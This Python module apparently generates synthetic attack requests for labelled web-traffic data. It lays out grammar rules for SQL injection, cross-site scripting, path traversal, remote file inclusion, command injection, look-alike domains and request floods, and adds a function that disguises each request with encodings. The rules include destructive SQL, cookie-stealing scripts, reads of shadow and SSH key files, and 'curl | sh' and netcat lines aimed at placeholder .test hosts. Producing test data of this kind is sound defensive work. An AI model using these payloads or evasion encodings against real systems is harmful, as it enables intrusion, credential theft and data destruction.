"""Requests of the attack kinds, as grammar rules, and the ways attackers disguise them.

The texts carry no working exploit: they are the shapes that scanners send, aimed at hosts under .test.
"""

from __future__ import annotations

from .generator_grammar import AS_BROWSER, AS_COMPONENT, AS_FORM, AS_SCRIPT, Alternatives, Draw

ATTACK_KINDS: dict[str, str] = {
    "sqli": "SQL injection",
    "xss": "cross-site scripting",
    "traversal": "path traversal",
    "rfi": "remote file inclusion",
    "cmdi": "command injection",
    "domain_abuse": "redirects and proxying to look-alike domains",
    "flood": "bursts of requests that defeat the cache",
}
"""The labels of attacks, with what they mean. A benign line carries the label ``-``."""

DEFAULT_KINDS: dict[str, float] = {
    "sqli": 0.29,
    "xss": 0.21,
    "traversal": 0.18,
    "rfi": 0.09,
    "cmdi": 0.13,
    "domain_abuse": 0.08,
    "flood": 0.02,
}
"""Relative weights of the kinds where none are asked for. Floods are few: their text hardly tells them."""

# Filled by hand: one alternative a line would hide the shape of a rule.
# fmt: off
_SQLI: dict[str, Alternatives] = {
    "sqli": (
        (4, "{start}{gap}or{gap}{truth}{end}"), (4, "{start}{gap}and{gap}{truth}{end}"),
        "{start}{gap}or{gap}{column}={n}{end}",
        (6, "{start}{gap}union{gap}select{gap}{columns}{gap}from{gap}{table}{end}"),
        (6, "{start}{gap}union{gap}all{gap}select{gap}{columns}{end}"),
        (6, "{start}{gap}and{gap}{call}{end}"), (2, "{start};{gap}{ruin}{end}"),
        "{start}{gap}order{gap}by{gap}{two}{end}",
        "{start}{gap}and{gap}{n}=(select{gap}{column}{gap}from{gap}{table}{gap}limit{gap}{digit}){end}",
        "({call})", "{name}'--", "{first}' or ''='", "{n}'", "{n}\"", "{n}-if({truth},{digit},{call})",
        "{n}')", "{start}{gap}having{gap}{truth}{end}", "{n}/**/and/**/{truth}",
        "{n} rlike (select {truth})", "{call}",
    ),
    "start": ("{n}'", "{n}'", "{n}", "-{n}", "{n}\"", "{n}')", "{n})", "{word}'", "{first}'", "{n}%'", "'"),
    "gap": (*[" "] * 7, "/**/", "/**/", "\t", "/*!*/"),
    "end": ("", "--", "-- -", "#", "/*", ";--", " -- {letters}", " and '{two}'='{two}"),
    "truth": (
        "{n}={n}", "'{letters}'='{letters}", "1=1", "{digit}<{two}", "'a'='a", "{n} like {n}",
        "0x{hex}=0x{hex}", "not {n}={two}",
    ),
    "columns": (
        "null,null,null", "{digit},{digit},{digit}", "{column},{column}", "concat({column},0x3a,{column})",
        "version()", "char({two},{two})", "0x{hex}{hex},{n}", "group_concat({column})", "null,@@version",
        "database(),{n}", "{n}",
    ),
    "call": (
        "sleep({digit})", "benchmark({n}000,md5({n}))", "waitfor delay '0:0:{digit}'", "pg_sleep({digit})",
        "ascii(substring({column},{digit},1))>{two}", "extractvalue({n},concat(0x7e,version()))",
        "select {column} from {table}", "exists(select {n} from {table})", "length(database())={digit}",
    ),
    "ruin": (
        "drop table {table}", "delete from {table}", "update {table} set {column}={n}",
        "insert into {table} values({n})", "exec xp_dirtree", "shutdown", "select sleep({digit})",
    ),
}

_XSS: dict[str, Alternatives] = {
    "xss": (
        "{break}<script>{code}</script>", "{break}<script src={remote}></script>",
        "{break}<img src={letters} {event}={code}>", "{break}<svg/onload={code}>",
        "{break}<{tag} {event}={code}>", "{break}<{tag} {event}=\"{code}\">{word}</{tag}>",
        "javascript:{code}", "\" {event}=\"{code}", "' {event}='{code}", "';{code}//", "\");{code};//",
        "{break}<iframe src={remote}>", "<{tag}/{event}={code}", "{{{n}*{n}}}",
        "{break}<a href=\"javascript:{code}\">{word}</a>", "'-{code}-'", "{break}<body {event}={code}>",
        "</title><{tag}>{word}", "data:text/html,<script>{code}</script>",
        "{break}<meta http-equiv=refresh content=\"0;{remote}\">",
    ),
    "break": ("", "", "\">", "'>", "{word}\">", "</textarea>", "{n}>", "-->"),
    "tag": ("img", "svg", "input", "video", "details", "a", "marquee", "p", "div", "audio", "b"),
    "event": ("onerror", "onload", "onmouseover", "onfocus", "onclick", "ontoggle", "onstart", "onblur"),
    "code": (
        "alert({n})", "alert('{letters}')", "prompt({digit})", "confirm`{n}`", "alert(document.cookie)",
        "document.location='{remote}'", "eval(atob('{hex}{hex}'))",
        "alert(String.fromCharCode({two},{two}))", "fetch('{remote}')", "top['al'+'ert']({n})",
        "{letters}()",
    ),
    "remote": ("//{evil}/{letters}.js", "{scheme}://{evil}/{letters}", "//{evil}/?c={n}"),
}

_FILES: dict[str, Alternatives] = {
    "traversal": (
        (6, "{ups}{secret}"), (3, "{ups}{secret}%00"), "/{secret}", "{noun}/{ups}{secret}",
        "{ups}{secret}%00.{media}", "php://filter/convert.base64-encode/resource={noun}",
        "file:///{secret}", "{ups}{noun}.php", "./{ups}{secret}", "{up}{secret}", "{up}{noun}/{noun}.php",
    ),
    "ups": ("{up}{up}", "{up}{up}{up}", "{up}{up}{up}{up}", "{up}{up}{up}{up}{up}{up}"),
    "up": (*["../"] * 8, "..\\", "..\\", "....//", "..//", ".././", "..;/"),
    "secret": (
        "etc/passwd", "etc/shadow", "etc/hosts", "windows/win.ini", "boot.ini", "proc/self/environ",
        "var/log/apache2/access.log", ".env", "config/database.yml", "etc/nginx/nginx.conf",
        "wp-config.php", ".git/config", "home/{first}/.ssh/id_rsa", "etc/apache2/{noun}.conf",
        "windows\\system32\\drivers\\etc\\hosts", "web.config", "config/{noun}.ini",
        "srv/{noun}/{noun}.bak",
    ),
    "climb": (
        "/static/{ups}{secret}", "/images/{ups}{secret}", "/{noun}/{ups}{secret}", "/cgi-bin/{ups}{secret}",
        "/{secret}", "/docs/{ups}{secret}", "/{noun}/..%2f..%2f..%2f{secret}",
        "/static/%2e%2e/%2e%2e/{secret}", "/{noun}.php~", "/{noun}.bak", "/docs/..%c0%af..%c0%af{secret}",
    ),
    "rfi": (
        "{scheme}://{evil}/{shell}", "{scheme}://{evil}/{shell}?", "//{evil}/{shell}",
        "ftp://{evil}/{shell}", "{scheme}://{evil}/{shell}%00",
        "data:text/plain;base64,{letters}{hex}{hex}==", "{scheme}://198.51.100.{two}/{shell}",
        "php://input", "\\\\{evil}\\{letters}", "expect://id",
        "{scheme}://203.0.113.{two}:8080/{letters}/{shell}?{letters}={n}",
        "{scheme}://{evil}/{noun}.{media}?cmd=id",
    ),
    "shell": (
        "shell.txt", "r57.txt", "c99.php", "{letters}.txt", "x.php", "cmd.gif", "{noun}.php", "id.txt",
        "{hex}.jpg", "inc/{letters}.inc",
    ),
}

_COMMANDS: dict[str, Alternatives] = {
    "cmdi": (
        (5, "{value}{join}{command}"), (3, "{value}{join} {command}"), "{value}{join}{command}{shut}",
        "$({command})", "`{command}`", "{value} {join} {command} #", "{value}'{join}{command}{join}'",
        "{value}\"{join}{command}", "{join}{command}", "() { :; }; {command}",
    ),
    "value": ("{n}", "{word}", "", "192.0.2.{two}", "{partner}", "{noun}.txt"),
    "join": (*[";"] * 4, "|", "|", "||", "&&", "&", "\n", "`"),
    "shut": ("", ";", " #", "&", "|"),
    "command": (
        "id", "whoami", (2, "uname -a"), (3, "cat /etc/passwd"), "cat${IFS}/etc/{noun}", "ls -la /{noun}",
        "sleep {digit}", "ping -c {digit} {evil}", (3, "wget {scheme}://{evil}/{shell}"),
        "curl {evil}/{letters}|sh", "nc {evil} {n}", "echo {hex}{hex}", "type c:\\boot.ini", "dir",
        "printf {letters}", "/bin/sh -c {letters}", "nslookup {letters}.{evil}", "rm -rf /tmp/{letters}",
        "python -c 'print({n})'", "c''at /etc/hosts",
    ),
}

_DOMAINS: dict[str, Alternatives] = {
    "domain_abuse": (
        "{scheme}://{evil}/", "{scheme}://{evil}/{noun}", "//{evil}/{noun}", "{scheme}://{host}@{evil}/",
        "{scheme}://{host}.{evil}/login", "/\\{evil}", "{scheme}:{evil}", "////{evil}",
        "{scheme}://{evil}/{noun}?id={n}", "{scheme}://{evil}/login?next=/{noun}",
        "{scheme}://{evil}\\@{host}/",
    ),
    "relay": (
        "{scheme}://{evil}/{noun}", "http://{evil}:{n}/", "http://{evil}/", "{page}?host={evil}",
        "/?x-forwarded-host={evil}", "{evil}:443",
    ),
    "evil": (
        "examp1e-{noun}.test", "example-com.test", "{letters}{digit}.test", "xn--exmple-{letters}.test",
        "{noun}-login.test", "secure-{noun}.test", "example.com-{letters}.test", "exarnple.test",
        "{letters}{letters}.test", "login.example.{letters}.test", "{noun}-{letters}.test", "{hex}.test",
    ),
    "flood": (
        "/?{letters}={n}", "/?{letters}{letters}={hex}{hex}", "/search?q={letters}{n}",
        "/search?q={word}&{letters}={hex}", "/?_={stamp}", "/?{hex}", "{page}?{letters}={n}{n}",
        "/{noun}?nocache={hex}{n}", "/?r=0.{n}{n}{n}",
    ),
}

ATTACK_RULES: dict[str, Alternatives] = {**_SQLI, **_XSS, **_FILES, **_COMMANDS, **_DOMAINS}

# Where each kind puts its text: the rule of the place (empty: the text is the whole target) and of the text.
CARRIERS: dict[str, tuple[tuple[str, str], ...]] = {
    "sqli": (("keyed", "sqli"), ("keyed", "sqli"), ("textual", "sqli")),
    "xss": (("textual", "xss"), ("textual", "xss"), ("keyed", "xss"), ("jump", "xss")),
    "traversal": (
        ("opening", "traversal"), ("opening", "traversal"), ("", "climb"), ("keyed", "traversal"),
    ),
    "rfi": (("opening", "rfi"), ("fetching", "rfi")),
    "cmdi": (("running", "cmdi"), ("running", "cmdi"), ("keyed", "cmdi"), ("textual", "cmdi")),
    "domain_abuse": (
        ("jump", "domain_abuse"), ("jump", "domain_abuse"), ("fetching", "domain_abuse"), ("", "relay"),
    ),
    "flood": (("", "flood"),),
}

# fmt: on


def disguise(text: str, draw: Draw) -> str:
    """`text` as an attacker writes it: like a browser, scattered, in odd case, or encoded once or twice."""
    if draw.chance(0.14):
        text = "".join([letter.upper() if draw.unit() < 0.5 else letter for letter in text])
    dice = draw.unit()
    if dice < 0.34:
        return text.translate(AS_FORM)
    if dice < 0.56:
        return text.translate(AS_BROWSER)
    if dice < 0.72:
        return text.translate(AS_COMPONENT)
    if dice < 0.84:
        return text.translate(AS_SCRIPT)
    if dice < 0.92:
        return text.translate(AS_COMPONENT).replace("%", "%25")
    return "".join(
        [f"%{ord(letter):02x}" if draw.unit() < 0.4 else letter.translate(AS_COMPONENT) for letter in text]
    )
